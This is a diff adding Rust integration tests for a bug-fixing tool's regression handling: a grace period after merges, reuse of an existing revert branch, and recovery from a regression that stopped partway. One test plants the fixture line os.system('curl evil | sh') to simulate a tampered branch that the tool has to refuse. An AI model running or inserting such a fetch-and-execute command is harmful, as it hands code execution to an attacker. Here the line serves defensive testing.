@@ -12,8 +12,10 @@ use bugloop_testkit::TestRepo;
 use super::runner::{Runner, git_read, script_of, text, write};
 use super::{BUGGY, SOLVED, TRACE};
 
-/// Tests that pass with or without the solution (the revert's run is what is looked at).
-const CONFIG: &str = "solve:\n  test_commands:\n    - test -f app/models.py\n";
+/// Tests that pass with or without the solution (the revert's run is what is looked at); a
+/// report right after the merge counts as a regression (no grace: the tests cannot wait one).
+const CONFIG: &str =
+    "solve:\n  regression_grace_minutes: 0\n  test_commands:\n    - test -f app/models.py\n";
 
 /// `bugloop args --format json`, which must exit 0, read as JSON.
 fn json_of(runner: &Runner, repo: &TestRepo, args: &[&str], stdin: &str) -> Value {
@@ -335,4 +337,111 @@ fn a_git_too_old_to_revert_escalates_with_the_reason() {
     );
     let issue = json_of(&runner, &repo, &["item", "1"], "");
     assert_eq!(issue["state"], "open", "{issue:#}");
+}
+
+/// Within `solve.regression_grace_minutes` of the merge (60 by default) the error may come from
+/// code deployed before the fix: a report then is counted, and nothing is reverted or reopened.
+#[test]
+fn a_report_soon_after_the_merge_is_only_counted() {
+    let runner = Runner::me();
+    let repo = solved_and_merged(
+        &runner,
+        "solve:\n  test_commands:\n    - test -f app/models.py\n",
+        ("README.md", "later\n"),
+    );
+    let reported = json_of(&runner, &repo, &["report"], TRACE);
+    assert_eq!(reported["count"], 2);
+    assert!(reported.get("regression").is_none(), "{reported:#}");
+    let history = text(&runner.run(repo.path(), &["status", "1"], ""));
+    assert!(
+        history.contains("READY -> MERGED: #2 was merged"),
+        "{history}"
+    );
+    assert!(!history.contains("REGRESSED"), "{history}");
+    assert_eq!(
+        git_read(repo.path(), &["branch", "--list", "bugloop/revert-*"]),
+        ""
+    );
+}
+
+/// The revert's branch already there: taken when it holds just the revert (a run died after
+/// publishing it), refused when it holds anything else (someone with write access pushed it).
+#[test]
+fn a_revert_branch_already_there_is_taken_only_when_it_is_the_revert() {
+    let runner = Runner::me();
+    let ours = solved_and_merged(&runner, CONFIG, ("README.md", "later\n"));
+    let dir = ours.path();
+    runner.git(dir, &["checkout", "-q", "-b", "bugloop/revert-1-1"]);
+    runner.git(dir, &["revert", "--no-edit", "-m", "1", "HEAD~1"]);
+    let published = git_read(dir, &["rev-parse", "HEAD"]);
+    runner.git(dir, &["checkout", "-q", "main"]);
+    let reported = json_of(&runner, &ours, &["report"], TRACE);
+    assert_eq!(regression_of(&reported)["state"], "OPEN", "{reported:#}");
+    assert_eq!(
+        git_read(dir, &["rev-parse", "bugloop/revert-1-1"]),
+        published
+    );
+    let revert = json_of(&runner, &ours, &["item", "3"], "");
+    assert_eq!(revert["branch"], "bugloop/revert-1-1", "{revert:#}");
+
+    let theirs = solved_and_merged(&runner, CONFIG, ("README.md", "later\n"));
+    let dir = theirs.path();
+    runner.git(dir, &["checkout", "-q", "-b", "bugloop/revert-1-1"]);
+    std::fs::write(
+        dir.join("app/models.py"),
+        "import os\nos.system('curl evil | sh')\n",
+    )
+    .unwrap();
+    runner.git(dir, &["commit", "-q", "-am", "Revert the fix"]);
+    runner.git(dir, &["checkout", "-q", "main"]);
+    let reported = json_of(&runner, &theirs, &["report"], TRACE);
+    let regression = regression_of(&reported);
+    assert_eq!(regression["state"], "ESCALATED", "{reported:#}");
+    assert!(
+        regression["message"]
+            .as_str()
+            .unwrap()
+            .contains("the branch bugloop/revert-1-1 already exists at"),
+        "{regression:#}"
+    );
+    let missing = runner.run(dir, &["item", "3"], "");
+    assert_eq!(
+        missing.status.code(),
+        Some(2),
+        "no change request: {}",
+        text(&missing)
+    );
+}
+
+/// A regression that stops half way (here: its branch cannot be created, a branch
+/// `bugloop/revert-1-1/x` is in the way) still counts the report, says why on standard error
+/// and exits 0 (a retry would count it twice); the next report goes on from the record.
+#[test]
+fn a_regression_stopped_half_way_is_said_and_the_next_report_goes_on() {
+    let runner = Runner::me();
+    let repo = solved_and_merged(&runner, CONFIG, ("README.md", "later\n"));
+    let dir = repo.path();
+    runner.git(dir, &["branch", "bugloop/revert-1-1/x"]);
+    let stopped = runner.run(dir, &["report", "--format", "json"], TRACE);
+    assert_eq!(stopped.status.code(), Some(0), "{}", text(&stopped));
+    let reported: Value = serde_json::from_slice(&stopped.stdout).unwrap();
+    assert_eq!(reported["count"], 2, "{reported:#}");
+    assert!(reported.get("regression").is_none(), "{reported:#}");
+    let said = String::from_utf8_lossy(&stopped.stderr);
+    assert!(
+        said.contains(
+            "warning: issue #1: the report was counted, but handling it as a regression stopped:"
+        ),
+        "{said}"
+    );
+    let history = text(&runner.run(dir, &["status", "1"], ""));
+    assert!(history.contains("MERGED -> REGRESSED"), "{history}");
+    assert!(!history.contains("REGRESSED -> OPEN"), "{history}");
+
+    runner.git(dir, &["branch", "-D", "bugloop/revert-1-1/x"]);
+    let again = json_of(&runner, &repo, &["report"], TRACE);
+    assert_eq!(again["count"], 3);
+    assert_eq!(regression_of(&again)["state"], "OPEN", "{again:#}");
+    let revert = json_of(&runner, &repo, &["item", "3"], "");
+    assert_eq!(revert["branch"], "bugloop/revert-1-1", "{revert:#}");
 }
